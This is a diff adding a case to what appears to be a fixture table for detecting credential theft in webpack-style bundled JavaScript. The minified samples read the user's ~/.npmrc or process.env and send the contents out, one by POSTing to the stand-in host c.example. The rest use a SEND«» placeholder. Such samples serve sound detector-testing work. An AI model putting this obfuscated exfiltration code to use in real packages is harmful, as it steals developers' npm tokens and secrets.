@@ -8,6 +8,10 @@ const CHANNELS: readonly Row[] = [
     '(()=>{var e={896:e=>{"use strict";e.exports=require("fs")},692:e=>{e.exports=require("https")},11:(e,t,r)=>{const n=r(896);t.grab=()=>n.readFileSync(process.env.HOME+"/.npmrc")},12:(e,t,r)=>{const n=r(692);t.put=e=>{const t=n.request({hostname:"c.example",method:"POST"});t.write(e),t.end()}}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var s=t[n]={exports:{}};return e[n](s,s.exports,r),s.exports}(()=>{const t=r(11),o=r(12);o.put(t.grab())})()})();',
   ],
   [
+    'data in a table, as webpack has it, and a part that is taken of a module',
+    `(()=>{var e={902:e=>{e.exports=JSON.parse('{"version":"1.0.0","defaults":{"file":".npmrc"}}')},11:(e,t,r)=>{const{defaults:n}=r(902);const o=require("fs").readFileSync(process.env.HOME+"/"+n.file);e.exports={text:o}},12:(e,t,r)=>{const{text:n}=r(11);e.exports.put=()=>{SEND«n»}}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var s=t[n]={exports:{}};return e[n](s,s.exports,r),s.exports}r(12).put()})();`,
+  ],
+  [
     'modules with getters, as webpack has them',
     '(()=>{var e={11:(e,t,r)=>{r.d(t,{A:()=>n});const n=()=>process.env}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var s=t[n]={exports:{}};return e[n].call(s.exports,s,s.exports,r),s.exports}(()=>{var o=r(11);SEND«JSON.stringify((0,o.A)())»})()})();',
   ],
